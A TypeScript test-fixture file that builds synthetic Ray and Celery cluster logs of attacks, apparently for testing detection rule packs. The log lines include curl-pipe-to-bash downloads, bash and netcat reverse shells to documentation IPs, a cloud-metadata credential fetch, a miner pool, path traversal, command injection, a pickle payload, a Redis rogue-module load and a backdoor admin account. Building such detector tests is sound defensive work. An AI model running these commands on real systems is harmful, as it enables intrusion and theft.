// Lines as the four programs write them, one file each, of acts that rules of the packs for Ray and Celery must find.
const SESSION = 'ray-head/tmp/ray/session_2026-11-20_17-26-14_617841_28470/logs';
const JOB = 'raysubmit_tZVGa99y7s6v4eyA';

const clock = (seconds: number): string => new Date(seconds * 1000).toISOString().slice(11, 19);
const from = (hms: string): number => Date.parse(`1970-01-01T${hms}Z`) / 1000;
/** `n` lines, `every` seconds apart; the line is told the time and its number. */
const times = (n: number, start: string, every: number, line: (at: string, i: number) => string): string[] =>
  Array.from({ length: n }, (_, i) => line(clock(from(start) + i * every), i));

const access = (at: string, ip: string, request: string, status: number, agent = 'curl/7.88.1'): string =>
  `2026-11-20 ${at},368\tINFO web_log.py:229 -- ${ip} [20/Nov/2026:${at} +0000] '${request} HTTP/1.1' ${status} 319 bytes 2138 us '-' '${agent}'`;

const dashboard = [
  '2026-11-20 17:26:20,368\tINFO head.py:242 -- Dashboard head http address: 0.0.0.0:8265',
  ...['/api/version', '/nodes?view=summary', '/api/cluster_status', '/api/v0/tasks', '/logical/actors'].map(
    (path, i) => access(`17:26:3${i}`, '10.0.0.66', `GET ${path}`, 200),
  ),
  access(
    '17:26:35',
    '10.0.0.66',
    'GET /api/v0/logs/file?node_id=a&filename=..%2f..%2f..%2fetc%2fpasswd',
    200,
  ),
  access('17:26:36', '10.0.0.66', 'GET /worker/cpu_profile?pid=3&format=`touch%20/tmp/x`', 200),
  access('17:26:37', '10.0.0.66', 'POST /api/jobs/', 200),
  ...times(5, '17:28:30', 5, (at, i) =>
    access(at, '10.0.0.66', `DELETE /api/jobs/${i ? `a${i}` : JOB}`, 200),
  ),
  access('17:31:00', '203.0.113.7', 'GET /api/version', 200),
  access('17:31:02', '203.0.113.7', 'POST /api/jobs/', 200),
  access('23:10:00', '10.0.0.70', 'POST /api/jobs/', 200),
  ...times(12, '17:32:00', 2, (at, i) => access(at, '10.0.0.67', `GET /p${i}.php`, 404)),
  ...times(12, '17:33:00', 2, (at) => access(at, '10.0.0.68', 'GET /api/jobs/', 401)),
  ...times(20, '17:34:00', 2, (at, i) =>
    access(at, '10.0.0.69', `GET /api/v0/logs/file?filename=w${i}.out`, 200),
  ),
];

const node = (i: number): string => `239c74b256be28e4e04cb4fcf909bfd7ee55f154fd8692f89696747${i}`;
const cpp = (at: string, component: string, text: string, level = 'I'): string =>
  `[2026-11-20 ${at},368 ${level} 28470 28470] (${component}) file.cc:143: ${text}`;

export const RAY_ATTACK: Record<string, string[]> = {
  [`${SESSION}/dashboard.log`]: dashboard,
  [`${SESSION}/job-driver-${JOB}.log`]: [
    `Running entrypoint for job ${JOB}: curl -fsSL http://198.51.100.7/i.sh | bash; whoami`,
    'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    ' * net      use pool stratum+tcp://198.51.100.242:3333 TLSv1.3',
  ],
  [`${SESSION}/runtime_env_agent.log`]: [
    '2026-11-20 17:26:38,368\tINFO runtime_env_agent.py:375 -- Creating runtime env: {"pip": {"packages": ["git+https://code.example/x.git"], "pip_check": false}} with timeout 600 seconds.',
    '2026-11-20 17:26:39,368\tINFO packaging.py:600 -- Downloading package from https://203.0.113.9/x.zip to /tmp/ray/x',
    ...times(
      3,
      '17:26:40',
      20,
      (at) =>
        `2026-11-20 ${at},368\tERROR runtime_env_agent.py:390 -- Failed to create runtime env {"pip": ["x"]}`,
    ),
  ],
  [`${SESSION}/gcs_server.out`]: [
    cpp('17:26:20', 'gcs_server', 'GcsServer server started, listening on port 6379.'),
    cpp(
      '17:26:21',
      'gcs_server',
      `Registering new node. node_id=${node(1)} node_name=n1 node_address=203.0.113.44`,
    ),
    ...times(5, '17:30:00', 30, (at, i) =>
      cpp(
        at,
        'gcs_server',
        `Actor is failed on worker ${node(0)} at node ${node(1)}, need_reschedule = 1, death context type = ActorDiedErrorContext, remaining_restarts = 9, num_restarts = ${i}, job id = 01000000 actor_id=3f8f563ccbd2cecef6d89d5b01000000`,
      ),
    ),
    ...times(2, '17:36:00', 60, (at, i) =>
      cpp(
        at,
        'gcs_server',
        `, death reason = UNEXPECTED_TERMINATION, death message = health check failed due to missing too many heartbeats node_id=${node(i + 1)}`,
      ),
    ),
    cpp('17:50:20', 'gcs_server', 'GcsServer server started, listening on port 6379.'),
    ...times(3, '17:52:00', 300, (at, i) =>
      cpp(
        at,
        'gcs_server',
        `Registering new node. node_id=${node(i + 4)} node_name=n2 node_address=10.0.0.8`,
      ),
    ),
    cpp('17:50:21', 'gcs_server', 'Token authentication is disabled'),
    ...times(5, '17:51:00', 1, (at) =>
      cpp(at, 'gcs_server', 'Missing authorization header in request!', 'W'),
    ),
  ],
  [`${SESSION}/raylet.out`]: [
    ...times(5, '17:40:00', 60, (at) =>
      cpp(
        at,
        'raylet',
        'Killing 1 worker(s), kill details: Memory on the node (IP: 10.0.0.7, ID: a) was 1.6GB / 2GB (0.8), which exceeds the memory usage threshold of 0.7',
      ),
    ),
    ...times(20, '17:40:00', 15, (at, i) =>
      cpp(at, 'raylet', `:info_message:Spilled ${85 + i} MiB, ${4 + i} objects, write throughput 86 MiB/s.`),
    ),
    cpp(
      '17:41:00',
      'raylet',
      '/tmp/ray is over 95% full, available space: 3.2 GB; capacity: 98 GB. Object creation will fail if spilling is required.',
      'E',
    ),
  ],
  [`${SESSION}/monitor.log`]: times(
    10,
    '17:42:00',
    20,
    (at, i) => `2026-11-20 ${at},368\tINFO autoscaler.py:469 -- Adding ${i + 1} node(s) of type gpu.`,
  ),
  [`${SESSION}/ray_process_exit.log`]: [
    '2026-11-20 17:45:00,368\tERR scripts.py:1024 -- Some Ray subprocesses exited unexpectedly:',
    '  raylet [exit code=-9 (signal 9)]',
  ],
  [`${SESSION}/events/event_JOBS.log`]: times(5, '17:46:00', 20, (at, i) =>
    JSON.stringify({
      event_id: `c${i}`,
      source_type: 'JOBS',
      source_hostname: 'ray-head',
      source_pid: 28979,
      message: `Completed a ray job bad${i} with a status FAILED. Job entrypoint command failed with exit code 1`,
      timestamp: String(Date.parse(`2026-11-20T${at}Z`) / 1000),
      custom_fields: { submission_id: `bad${i}` },
      severity: 'ERROR',
      label: '',
    }),
  ),
  [`${SESSION}/python-core-worker-${node(8)}_1922.log`]: times(3, '17:53:00', 60, (at, i) =>
    [
      `[2026-11-20 ${at},368 E 1922 1922] logging.cc:474: *** SIGSEGV received at time=${1795196000 + i} on cpu 1 ***`,
      `[2026-11-20 ${at},368 E 1922 1922] logging.cc:474: PC: @     0x7f0000000000  (unknown)  (unknown)`,
    ].join('\n'),
  ),
  [`${SESSION}/export_events/event_EXPORT_DRIVER_JOB.log`]: [
    '{"event_data":{"job_id":"AQAAAA==","entrypoint":"python x.py","driver_ip_address":"203.0.113.5","driver_pid":"77","is_dead":false},"event_id":"e","source_type":"EXPORT_DRIVER_JOB","timestamp":1795195597}',
  ],
  [`${SESSION}/export_events/event_EXPORT_ACTOR.log`]: [
    '{"event_data":{"actor_id":"P49WPMvSzs5vmNf2AQAAAA==","class_name":"K","is_detached":true,"job_id":"AQAAAA==","name":"keeper","state":"ALIVE"},"event_id":"f","source_type":"EXPORT_ACTOR","timestamp":1795195597}',
  ],
};

const worker = (at: string, text: string, level = 'INFO', process = 'MainProcess'): string =>
  `[2026-11-20 ${at},582: ${level}/${process}] ${text}`;
const redis = (at: string, sign: string, text: string, role = 'M'): string =>
  `15242:${role} 20 Nov 2026 ${at}.464 ${sign} ${text}`;
const rabbit = (at: string, fraction: number, level: string, process: string, text: string): string =>
  `2026-11-20 ${at}.${fraction}+00:00 [${level}] <${process}> ${text}`;

export const CELERY_ATTACK: Record<string, string[]> = {
  'h1/var/log/celery/worker.log': [
    worker('17:18:54', "Received unregistered task of type 'os.system'.", 'ERROR'),
    'The message has been ignored and discarded.',
    '',
    'The full contents of the message headers:',
    "{'lang': 'py', 'task': 'os.system', 'id': 'x1', 'origin': 'gen1@attacker'}",
    ...times(5, '17:19:00', 5, (at, i) =>
      worker(at, `Received unregistered task of type 'a.b${i}'.`, 'ERROR'),
    ),
    worker(
      '17:20:00',
      'Received invalid task message: Refusing to deserialize untrusted content of type pickle (application/x-python-serialize)',
      'ERROR',
    ),
    'The full contents of the message body was:',
    String.raw`b'\x80\x04\x95\x1d\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.' (40b)`,
    worker(
      '17:20:01',
      "Can't decode message body: DecodeError(JSONDecodeError('Expecting value: line 1 column 1 (char 0)')) [type:'application/json' encoding:'utf-8' headers:{'id': 'x'}]",
      'CRITICAL',
    ),
    worker('17:20:02', 'Started consuming from evil'),
    ...times(10, '17:20:10', 5, (at, i) => worker(at, `Tasks flagged as revoked: id-${i}`)),
    worker(
      '17:22:00',
      'proj.sh[9786fc7a-5232-424d-ab44-3c2be3fcd25b]: running curl -fsSL http://198.51.100.7/x.sh | bash',
      'INFO',
      'ForkPoolWorker-1',
    ),
    worker(
      '17:22:01',
      'proj.sh[9786fc7a-5232-424d-ab44-3c2be3fcd25b]: net use pool stratum+tcp://198.51.100.242:3333',
      'INFO',
      'ForkPoolWorker-1',
    ),
    ...times(10, '17:23:00', 60, (at) =>
      worker(
        at,
        "Task proj.flaky[41bb1ed9-8a4f-4a5e-97a5-dd2cc2a7a4b0] retry: Retry in 60s: OSError(5, 'x')",
        'INFO',
        'ForkPoolWorker-1',
      ),
    ),
    ...times(5, '17:35:00', 60, (at, i) =>
      worker(
        at,
        `Soft time limit (1s) exceeded for proj.slow[5b9f70a6-1d5e-4a0b-9f52-00000000000${i}]`,
        'WARNING',
      ),
    ),
    ...times(3, '17:41:00', 60, (at) =>
      worker(at, 'consumer: Connection to broker lost. Trying to re-establish the connection...', 'WARNING'),
    ),
    worker(
      '17:44:00',
      'consumer: Cannot connect to redis://:**@10.0.0.9:6379/0: WRONGPASS invalid username-password pair or user is disabled..',
      'ERROR',
    ),
    'Trying again in 2.00 seconds... (1/100)',
    worker('17:45:00', 'missed heartbeat from w2@h2'),
    worker('17:46:00', 'missed heartbeat from w3@h3'),
    worker('17:47:00', 'w4@h4 joined the party'),
    worker('17:48:00', 'Got shutdown from remote', 'WARNING'),
    worker(
      '17:49:00',
      "Unrecoverable error: ValueError('not enough values to unpack (expected 3, got 2)')",
      'CRITICAL',
    ),
  ],
  'h2/var/log/celery/worker.log': [
    "/usr/lib/python3/dist-packages/celery/platforms.py:840: SecurityWarning: You're running the worker with superuser privileges: this is",
    'absolutely not recommended!',
    '',
    'User information: uid=0 euid=0 gid=0 egid=0',
    ...times(5, '17:00:00', 60, (at) => worker(at, 'w2@h2 ready.')),
    worker(
      '17:06:00',
      'Setting ssl_cert_reqs=CERT_NONE when connecting to redis means that celery will not validate the identity of the redis broker when connecting. This leaves you vulnerable to man in the middle attacks.',
      'WARNING',
    ),
    worker(
      '17:07:00',
      'Substantial drift from w1@h1 may mean clocks are out of sync.  Current drift is 300 seconds.  [orig: 2026-11-20 17:07:00 recv: 2026-11-20 17:02:00]',
      'WARNING',
    ),
    worker(
      '17:08:00',
      '/usr/lib/python3/dist-packages/celery/app/control.py:50: DuplicateNodenameWarning: Received multiple replies from node name: w1@h1.',
      'WARNING',
    ),
    ...times(5, '17:09:00', 2, (at, i) =>
      worker(at, `Connection to Redis lost: Retry (${i}/20) in 1.00 second.`, 'ERROR'),
    ),
    ...times(10, '17:10:00', 2, (at, i) =>
      worker(
        at,
        `Task proj.bad[5b9f70a6-1d5e-4a0b-9f52-0000000000${i + 10}] raised unexpected: KeyError('x')`,
        'ERROR',
        'ForkPoolWorker-1',
      ),
    ),
    worker('17:11:00', "Process 'ForkPoolWorker-2' pid:15262 exited with 'signal 9 (SIGKILL)'", 'ERROR'),
    worker('17:48:00', 'Connected to redis://:**@10.0.0.9:6379/0'),
    worker(
      '17:50:00',
      "Unrecoverable error: ValueError('not enough values to unpack (expected 3, got 2)')",
      'CRITICAL',
    ),
  ],
  'h3/var/log/celery/worker.stdout.log': [
    'purge: Erased 12 messages from the queue.',
    '',
    worker('17:08:00', 'w3@h3 ready.'),
    '',
    'Running a worker with superuser privileges when the',
    'worker accepts messages serialized with pickle is a very bad idea!',
  ],
  'h5/var/log/celery/worker.json.log': [
    `{"timestamp":"2026-11-20 17:24:25,439","level":"INFO","logger":"celery.worker.strategy","processName":"MainProcess","process":25436,"message":"Task proj.sh[9786fc7a-5232-424d-ab44-3c2be3fcd25b] received","data":{"id":"9786fc7a-5232-424d-ab44-3c2be3fcd25b","name":"proj.sh","args":"('nc 203.0.113.7 4444 -e /bin/sh', '__import__(1)')","kwargs":"{}","eta":null}}`,
    `{"event":"Received unregistered task of type 'subprocess.call'.\\nThe message has been ignored and discarded.","level":"error","logger":"celery.worker.consumer.consumer","timestamp":"2026-11-20T17:24:30.611802Z"}`,
  ],
  'h6/var/log/celery/flower.log': [
    '[W 261120 17:20:00 command:177] Running without authentication',
    '[I 261120 17:20:02 web:2243] 200 POST /api/task/async-apply/proj.add (203.0.113.1) 3.1ms',
    "[I 261120 17:20:04 control:63] Shutting down 'alpha@h1' worker",
  ],
  'h6/var/log/celery/beat.log': [
    worker('17:20:00', 'beat: Starting...'),
    worker('17:21:00', 'DatabaseScheduler: Schedule changed.'),
    worker('23:21:00', 'Tasks flagged as revoked: a'),
  ],
  'broker-1/var/log/redis/redis-server.log': [
    redis('17:17:52', '-', 'Accepted 203.0.113.7:56254'),
    redis(
      '17:17:54',
      '*',
      "REPLICAOF 203.0.113.6:21000 enabled (user request from 'id=4 addr=203.0.113.7:40001 laddr=10.0.0.9:6379 fd=8 name= cmd=slaveof user=default')",
      'S',
    ),
    redis('17:17:55', '*', "Module 'system' loaded from ./exp.so", 'S'),
    redis(
      '17:17:56',
      '#',
      'Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. This is likely due to an attacker attempting to use Cross Protocol Scripting to compromise your Redis instance. Connection from 10.0.0.66:40002 aborted.',
    ),
    redis(
      '17:18:56',
      '#',
      'Failed opening the temp RDB file temp-15242.rdb (in server root dir /var/spool/cron/crontabs) for saving: Permission denied',
    ),
  ],
  'broker-2/var/log/rabbitmq/rabbit@broker-2.log': [
    ...Array.from({ length: 12 }, (_, i) => i).flatMap((i) => [
      rabbit(
        clock(from('17:17:10') + i),
        582121,
        'info',
        `0.${100 + i}.0`,
        `accepting AMQP connection <0.${100 + i}.0> (203.0.113.9:${5000 + i} -> 10.0.0.9:5672)`,
      ),
      rabbit(
        clock(from('17:17:10') + i),
        582123,
        'error',
        `0.${100 + i}.0`,
        `Error on AMQP connection <0.${100 + i}.0> (203.0.113.9:${5000 + i} -> 10.0.0.9:5672, state: starting):`,
      ),
      rabbit(
        clock(from('17:17:10') + i),
        582123,
        'error',
        `0.${100 + i}.0`,
        `PLAIN login refused: user 'admin${i}' - invalid credentials`,
      ),
    ]),
    rabbit(
      '17:17:40',
      682123,
      'info',
      '0.200.0',
      "connection <0.200.0> (203.0.113.9:6000 -> 10.0.0.9:5672): user 'guest' authenticated and granted access to vhost '/'",
    ),
    rabbit('17:17:50', 582123, 'info', '0.300.0', "Created user 'backdoor'"),
    rabbit(
      '17:17:51',
      582123,
      'info',
      '0.300.0',
      "Successfully set user tags for user 'backdoor' to [administrator]",
    ),
    rabbit(
      '17:17:53',
      582123,
      'warning',
      '0.400.0',
      "** Connection attempt from disallowed node 'rabbit@evil' **",
    ),
    rabbit(
      '17:17:54',
      582123,
      'warning',
      '0.500.0',
      'memory resource limit alarm set on node rabbit@broker-2.',
    ),
  ],
};
